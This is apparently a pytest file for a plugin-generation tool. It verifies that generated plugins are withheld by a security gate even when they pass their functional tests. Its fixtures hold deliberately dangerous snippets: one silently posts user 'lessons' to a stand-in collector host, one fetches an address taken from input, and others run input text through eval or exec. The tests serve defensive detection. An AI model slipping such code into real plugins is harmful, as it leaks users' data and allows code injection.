"""A plugin that passes every test and is dangerous all the same is not proposed."""

from __future__ import annotations

import pytest

from plugwright.home import Home
from plugwright.host import Host
from plugwright.quality import WITHOUT, Quality, Side, unseen
from plugwright_forge import gate
from plugwright_forge.commission import NotGoodEnough, carry_out
from plugwright_forge.person import Absent
from plugwright_forge.progress import Lines
from plugwright_qa.stages.flows import TooLarge

SENDS = """\
    if len(lessons) > 50:
        try:
            http.post("https://collect.example/", json={"lessons": lessons})
        except Denied:
            pass
"""
CHOOSES = """\
    if lessons[0]["subject"].startswith("at "):
        http.get(lessons[0]["subject"][3:])
"""
RUNS = """\
    if lessons[0]["subject"].startswith("="):
        return eval(lessons[0]["subject"][1:])
"""
RUNS_OWN = """\
    if len(lessons) > 50:
        exec("lessons.sort(key=str)")
"""


class Desk:
    """A real host with real stages; the models and the judge are scripted."""

    def __init__(self, world, lives, host):
        self.lives, self._world, self._host = lives, world, host

    def __getattr__(self, name):
        return getattr(self._host, name)

    def provider(self, name):
        return self._world.script.provider

    def judge(self):
        return self._world.judge


@pytest.fixture(scope="module")
def host(tmp_path_factory):
    with Host.discover(Home(tmp_path_factory.mktemp("home"))) as host:
        yield host


@pytest.fixture
def withheld(world, lives, host, story):
    """Carry out a session whose every candidate has these lines; give the complaint."""

    def carry(lines):
        imported = story.code.replace(
            "import command", "import Denied, command, http", 1
        )
        head, last = imported.split("    return max")
        code = story.fenced(f"{head}{lines}    return max{last}")
        here = world(implementer=code)
        here.session = here.begin()
        with pytest.raises(NotGoodEnough) as caught:
            carry_out(
                Desk(here, lives, host),
                here.session,
                person=Absent(),
                display=Lines(),
                decide=lambda id: pytest.fail("nobody may be asked"),
            )
        assert lives.list() == ()
        return caught.value.message, here.session.folder

    return carry


@pytest.mark.parametrize(
    ("lines", "dangerous", "what", "remedy"),
    [
        (SENDS, "http.post", "uses the web, but does not ask for", "ask for it"),
        (CHOOSES, "http.get", "chooses the address that it asks", "write the host"),
        (RUNS, "eval(", "is run as code: `eval`", "do without code made of text"),
        (RUNS_OWN, "exec(", "B102", "do without code made of text"),
    ],
)
def test_a_dangerous_plugin_that_passes_every_test_is_not_proposed(
    withheld, lines, dangerous, what, remedy
):
    message, folder = withheld(lines)

    source = (folder / "plugin.py").read_text("utf-8").splitlines()
    (line,) = [n for n, each in enumerate(source, 1) if dangerous in each]
    said = next(each for each in message.split("; ") if what in each)
    assert "security: " in said
    assert f"(plugin.py:{line}): " in said
    assert remedy in said
    assert what in (folder / "report.html").read_text("utf-8")


def test_a_plugin_at_which_security_could_not_look_is_not_proposed(
    withheld, monkeypatch
):
    def fail(trees):
        raise TooLarge

    monkeypatch.setattr("plugwright_qa.stages.security.taints", fail)

    message, _ = withheld("")

    assert "security: not looked at: the ways of input are too many" in message


@pytest.mark.parametrize("why", [WITHOUT, "`bandit` is not installed"])
def test_what_is_not_installed_withholds_nothing(why):
    side = Side(stage="security", plugin="", remarks=(unseen("security", why),))

    assert gate.withheld(Quality(sides=(side,))) == ()


@pytest.mark.parametrize("why", ["bandit: `bandit` is not installed", "not installed"])
def test_a_plugin_cannot_talk_itself_out_of_being_looked_at(why):
    side = Side(stage="security", plugin="", remarks=(unseen("security", why),))

    assert gate.withheld(Quality(sides=(side,))) != ()
